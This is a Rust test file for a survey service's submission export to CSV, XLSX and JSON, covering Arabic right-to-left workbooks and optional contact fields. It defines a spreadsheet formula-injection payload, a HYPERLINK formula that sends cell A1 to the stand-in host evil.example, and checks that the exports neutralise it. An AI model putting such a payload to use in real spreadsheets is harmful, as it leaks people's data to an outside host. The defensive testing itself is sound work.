//! What was submitted to a form, as files; read back by libraries that are not ours.

use std::io::Cursor;

use calamine::{Data, Reader as _, Xlsx, open_workbook_from_rs};
use serde_json::{Value, json};

use crate::forms_to_import::{submit, with_form};
use crate::support::Server;

const FORMULA: &str = "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")";

fn filled() -> Server {
    let server = Server::with(&with_form(&json!({ "answered": true })));
    let device = server.client().device();
    for answers in [
        json!({
            "who": { "choices": ["entity"] },
            "consent": { "agreed": "2026-01" },
            "channels": { "choices": ["window", "other"], "other": "+هاتف" },
            "services": { "rows": { "speed": "good" } },
            "priorities": { "choices": ["buses", "roads"] },
            "staff": { "number": -0.0 },
            "since": { "text": "2026-01-31" },
            "remarks": { "text": FORMULA },
            "email": { "text": "unit@ministry.example" },
            "phone": { "text": "٤٤٠٦ ٩٩٩٩" }
        }),
        json!({ "who": { "choices": ["individual"] }, "remarks": { "text": "سطر أول\nوسطر ثانٍ، \"مقتبس\"" } }),
    ] {
        let answer = submit(&device, &answers);
        assert_eq!(answer.status, 201, "{}", answer.text);
    }
    server
}

fn export(server: &Server, arguments: &[&str]) -> Vec<u8> {
    let done = server
        .command("export-submissions")
        .args(["--form", "every-field"])
        .args(arguments)
        .output()
        .unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    done.stdout
}

/// A table by its headings, the entity's submission first.
struct Table(Vec<String>, Vec<Vec<String>>);

impl Table {
    fn of(file: &[u8]) -> Self {
        let text = std::str::from_utf8(file).unwrap().strip_prefix('\u{FEFF}').unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let cells = |record: &csv::StringRecord| record.iter().map(str::to_owned).collect();
        let head = cells(reader.headers().unwrap());
        let mut rows: Vec<Vec<String>> =
            reader.records().map(|record| cells(&record.unwrap())).collect();
        rows.sort_by_key(|row| !row.contains(&"entity".to_owned()));
        Self(head, rows)
    }

    fn cell(&self, row: usize, column: &str) -> &str {
        let at = self.0.iter().position(|head| head == column);
        &self.1[row][at.unwrap_or_else(|| panic!("no {column}"))]
    }
}

#[test]
fn a_table_is_in_ids_and_calculates_nothing() {
    let server = filled();
    let table = Table::of(&export(&server, &["--format", "csv"]));
    assert_eq!(table.1.len(), 2);
    assert_eq!(table.cell(0, "who"), "entity");
    assert_eq!(table.cell(0, "remarks"), format!("'{FORMULA}"));
    let channels =
        ["window", "accounts", "other"].map(|it| table.cell(0, &format!("channels/{it}")));
    assert_eq!(channels, ["1", "0", "1"]);
    assert_eq!(table.cell(0, "channels/other/text"), "'+هاتف");
    assert_eq!((table.cell(0, "services/speed"), table.cell(0, "services/clarity")), ("good", ""));
    let places = ["roads", "buses", "parking"].map(|it| table.cell(0, &format!("priorities/{it}")));
    assert_eq!(places, ["2", "1", ""]);
    assert_eq!(table.cell(1, "remarks"), "سطر أول\nوسطر ثانٍ، \"مقتبس\"");
    assert_eq!(table.cell(1, "channels/window"), "", "not answered is not 0");
    assert!(!table.0.contains(&"email".to_owned()));
    let table = Table::of(&export(&server, &["--format", "csv", "--with-contact"]));
    assert_eq!(table.cell(0, "email"), "unit@ministry.example");
    assert_eq!(table.cell(0, "phone"), "'+97444069999");
}

#[test]
fn a_workbook_is_in_words_from_right_to_left_with_a_sheet_that_explains_it() {
    let server = filled();
    let file = export(&server, &["--format", "xlsx"]);
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(file.clone())).unwrap();
    assert_eq!(book.sheet_names(), ["الإجابات", "دليل البيانات"]);
    let sheet = book.worksheet_range("الإجابات").unwrap();
    let text = |text: &str| Data::String(text.to_owned());
    let mut rows: Vec<&[Data]> = sheet.rows().collect();
    rows[1..].sort_by_key(|row| !row.contains(&text("جهة")));
    let at = |row: usize, column: &str| {
        let place = rows[0].iter().position(|head| *head == text(column));
        rows[row][place.unwrap_or_else(|| panic!("no {column}"))].clone()
    };
    assert_eq!(at(1, "صفة المشارك"), text("جهة"));
    assert_eq!(at(1, "ملاحظات"), text(FORMULA), "a text, as it was written");
    assert_eq!(book.worksheet_formula("الإجابات").unwrap().used_cells().count(), 0);
    assert_eq!(at(1, "القنوات المستخدمة: نافذة إلكترونية"), Data::Float(1.0));
    assert_eq!(at(1, "عدد الموظفين"), Data::Float(0.0));
    assert_eq!(at(1, "تقييم الخدمات: السرعة"), text("جيدة"));
    assert_eq!(at(2, "الأولويات: الطرق"), Data::Empty);
    let dictionary = book.worksheet_range("دليل البيانات").unwrap();
    let explained: Vec<String> = dictionary
        .rows()
        .map(|row| row.iter().map(ToString::to_string).collect::<Vec<_>>().join("|"))
        .collect();
    assert!(explained.contains(&"who|صفة المشارك|entity|جهة".to_owned()), "{explained:?}");
    for (file, direction) in
        [(file, true), (export(&server, &["--format", "xlsx", "--language", "en"]), false)]
    {
        assert_eq!(runs_from_right_to_left(&file), direction);
    }
}

/// What every sheet of a workbook says of itself.
fn runs_from_right_to_left(file: &[u8]) -> bool {
    let mut archive = zip::ZipArchive::new(Cursor::new(file)).unwrap();
    ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"].into_iter().all(|name| {
        let sheet = std::io::read_to_string(archive.by_name(name).unwrap()).unwrap();
        sheet.contains("rightToLeft=\"1\"")
    })
}

#[test]
fn json_has_the_form_and_every_answer() {
    let server = filled();
    let read = |arguments: &[&str]| -> Value {
        serde_json::from_slice(&export(&server, arguments)).unwrap()
    };
    let document = read(&["--format", "json"]);
    assert_eq!(document["form"]["id"], "every-field");
    let entity = |document: &Value| {
        let all = document["submissions"].as_array().unwrap();
        all.iter().find(|it| it["answers"]["who"]["choices"][0] == "entity").unwrap().clone()
    };
    let first = entity(&document);
    assert_eq!(first["answers"]["remarks"]["text"], FORMULA);
    assert!(first["reference"].is_string() && first.get("contact").is_none());
    let with_contact = entity(&read(&["--format", "json", "--with-contact"]));
    assert_eq!(with_contact["contact"]["phone"], "+97444069999");
    let mut nowhere = server.command("export-submissions");
    let done = nowhere.args(["--form", "nothing", "--format", "json"]).output().unwrap();
    assert!(String::from_utf8_lossy(&done.stderr).contains("there is no form \"nothing\""));
}
